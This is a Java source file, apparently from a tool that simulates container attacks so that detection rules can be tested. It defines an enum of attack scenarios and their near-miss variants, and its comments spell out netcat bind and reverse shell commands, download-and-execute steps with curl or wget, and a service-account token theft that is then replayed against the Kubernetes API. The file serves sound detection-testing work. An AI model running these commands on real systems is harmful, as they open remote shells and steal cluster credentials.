package io.ncwatch.generate;

import java.util.Arrays;
import java.util.List;
import java.util.stream.Collectors;

/** The attack scenarios the generator can play inside one container, by their command-line names. */
public enum Scenario {
    /** {@code nc -lvnp PORT -e /bin/sh} or {@code ncat --listen PORT --sh-exec}: listener, connection, shell. */
    BIND_SHELL("bind-shell"),
    /** A listener that nothing connects to. */
    LISTENER_ONLY("listener-only"),
    /** Listener then shell, with no network events (fleets with Defend for Containers data only). */
    LISTENER_SHELL_NO_NETWORK("listener-shell-no-network"),
    /** {@code nc HOST PORT -e /bin/sh}: connects out, is not a listener, matches no rule. */
    REVERSE_SHELL("reverse-shell"),
    /** {@code busybox nc -lp PORT -e sh}: listener, connection, shell. */
    BUSYBOX("busybox"),
    /** {@code timeout 60 nc -l -p PORT}: the netcat name appears only in the wrapper's arguments. */
    WRAPPER("wrapper"),
    /** A bind shell whose events reach the stream shuffled within {@link FleetGenerator#SHUFFLE_BOUND}. */
    OUT_OF_ORDER("out-of-order"),
    /** A bind shell whose connection and shell reach the stream {@link FleetGenerator#LATENESS} late. */
    LATE("late"),

    /** In a {@code kubectl exec} shell: curl or wget downloads a file to /tmp, it runs, it deletes itself. */
    INGRESS_TRANSFER("ingress-transfer", false),
    /** Near miss: the download deletes itself 11 to 20 s after it was created, beyond the 10 s span. */
    INGRESS_TRANSFER_SLOW("ingress-transfer-slow", false),
    /** Near miss: the download runs and stays on disk. */
    INGRESS_TRANSFER_KEPT("ingress-transfer-kept", false),
    /** The shell writes a file to /tmp, makes it executable and runs it within 2 s. */
    FILE_EXEC("file-exec", false),
    /** Near miss: the written file runs 4 to 20 s later, beyond the 3 s span. */
    FILE_EXEC_SLOW("file-exec-slow", false),
    /** Near miss: the written file runs at once, but as another user ({@code runuser -u nobody}). */
    FILE_EXEC_OTHER_USER("file-exec-other-user", false),
    /** {@code cat} of the service account token, then curl calls the API server with it (audit event). */
    TOKEN_API("token-api", false),
    /** Near miss: the API request comes 62 to 90 s after the token was read, beyond the 60 s span. */
    TOKEN_API_SLOW("token-api-slow", false),
    /** Near miss: the API request after the token read comes from another pod. */
    TOKEN_API_OTHER_POD("token-api-other-pod", false);

    private final String cliName;
    private final boolean netcat;

    Scenario(String cliName) {
        this(cliName, true);
    }

    Scenario(String cliName, boolean netcat) {
        this.cliName = cliName;
        this.netcat = netcat;
    }

    public String cliName() {
        return cliName;
    }

    /**
     * Whether the scenario is a netcat attack, for the seed rule and its correlation; the others play what
     * Elastic's container sequence rules look for, and are played only when named.
     */
    public boolean netcat() {
        return netcat;
    }

    /** The netcat scenarios: those an attack rate draws from when no scenario is named. */
    public static List<Scenario> netcatScenarios() {
        return Arrays.stream(values()).filter(Scenario::netcat).toList();
    }

    /** Whether the scenario writes Kubernetes audit events ({@link EventKind#AUDIT}). */
    public boolean writesAuditEvents() {
        return this == TOKEN_API || this == TOKEN_API_SLOW || this == TOKEN_API_OTHER_POD;
    }

    public static Scenario fromCliName(String name) {
        for (Scenario s : values()) {
            if (s.cliName.equals(name)) {
                return s;
            }
        }
        throw new IllegalArgumentException("unknown scenario '" + name + "'; known: " + names());
    }

    public static String names() {
        return Arrays.stream(values()).map(Scenario::cliName).collect(Collectors.joining(", "));
    }
}
